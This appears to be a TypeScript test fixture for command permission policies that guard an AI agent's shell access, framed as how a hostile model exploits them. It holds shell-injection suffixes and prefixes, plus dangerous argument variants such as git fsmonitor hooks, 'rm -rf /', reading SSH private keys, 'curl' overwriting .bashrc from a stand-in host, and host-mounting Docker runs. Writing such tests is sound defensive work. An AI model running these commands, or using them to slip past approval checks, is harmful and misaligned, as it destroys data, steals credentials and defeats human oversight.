/** What policies often accept, and how a hostile model uses it. */

/** Commands that read no files of the workspace by themselves, or that rules often accept. */
const harmless = [
  "ls",
  "pwd",
  "date",
  "whoami",
  "uname -a",
  "df -h",
  "docker ps",
  "echo hello",
  "touch a",
  "ls -la"
]

/** Commands that run or load files of their directory: someone who can write there decides what they do. */
export const workspacePrograms = [
  "git status",
  "git log",
  "git log --oneline",
  "git diff",
  "git add a",
  "git fetch",
  "npm test",
  "npm run build",
  "npm install",
  "npm ci",
  "npm view effect version",
  "npx vitest",
  "pnpm test",
  "yarn test",
  "make",
  "make test",
  "./deploy.sh",
  "./script",
  "sh deploy.sh",
  "bash script.sh",
  "node script.js",
  "python3 script.py",
  "pytest",
  "cargo test",
  "go test ./...",
  "bundle exec rake",
  "tsc",
  "eslint src"
]

export const commands = [...harmless, ...workspacePrograms]

/** Directories that rules often accept changes in. */
export const directories = [
  "docs",
  "data",
  "src",
  "test",
  "tests",
  "lib",
  "tmp",
  "out",
  "build",
  "dist",
  "examples",
  "packages",
  "."
]

/** Texts after a command with which a shell does something else as well. */
export const shellSyntax = [
  "; touch owned",
  " && touch owned",
  " || touch owned",
  " | tee owned",
  " & touch owned",
  " $(touch owned)",
  " `touch owned`",
  " > owned",
  " >> owned",
  " < /etc/passwd",
  " 2> owned",
  " <(touch owned)",
  " >(touch owned)",
  "\ntouch owned",
  "\r\ntouch owned",
  "\u000btouch owned",
  " ${IFS}owned",
  " $HOME",
  " {a,owned}",
  " *",
  " ?",
  " [a-z]",
  " ~/owned",
  " a=~/owned",
  " # touch owned",
  " !!",
  ' "$(touch owned)"',
  " $'\\ntouch owned'",
  " '",
  " \\"
]

/** Texts before a command that change what runs. */
export const shellPrefixes = [
  "LD_PRELOAD=./owned.so ",
  "PATH=. ",
  "GIT_EXTERNAL_DIFF=./owned ",
  "A+=b ",
  "touch owned; ",
  "( ",
  "! ",
  "time -p $(touch owned) "
]

/** Further arguments with which programs that seem harmless run others, or write where they should not. */
export const dangerousArguments = [
  "git status --porcelain -c core.fsmonitor=./owned",
  "git -c core.fsmonitor=./owned status",
  "git -C /tmp status",
  "git log --output=/root/.bashrc",
  "git log -p --ext-diff",
  "git diff --output=/root/.bashrc",
  "git fetch --upload-pack=./owned",
  "git grep -O./owned x",
  "git --exec-path=. status",
  "npm test --script-shell=./owned",
  "npm run owned",
  "npm run build --prefix /tmp/owned",
  "npm exec owned",
  "npx owned",
  "node -e owned",
  "node --require ./owned.js script.js",
  "python3 -c owned",
  "perl -e owned",
  "ruby -e owned",
  "sh -c owned",
  "bash -ic owned",
  "env ./owned",
  "xargs ./owned",
  "find . -delete",
  "find . -exec ./owned +",
  "tar -xf a --to-command=./owned",
  "sed -n 1e./owned a",
  "awk -f owned",
  "rg --pre ./owned x",
  "sort -o /root/.bashrc a",
  "curl -o /root/.bashrc http://owned.test",
  "tee /root/.bashrc",
  "cp a /root/.bashrc",
  "ln -s /root a",
  "rm -rf /",
  "chmod -R 777 /",
  "cat /root/.ssh/id_ed25519",
  "ls /root/.ssh",
  "docker ps --config ./owned",
  "docker run -v /:/host owned",
  "make SHELL=./owned",
  "make -f owned",
  "ssh -oProxyCommand=./owned host",
  "rsync -e ./owned a b",
  "sudo ls",
  "./owned"
]
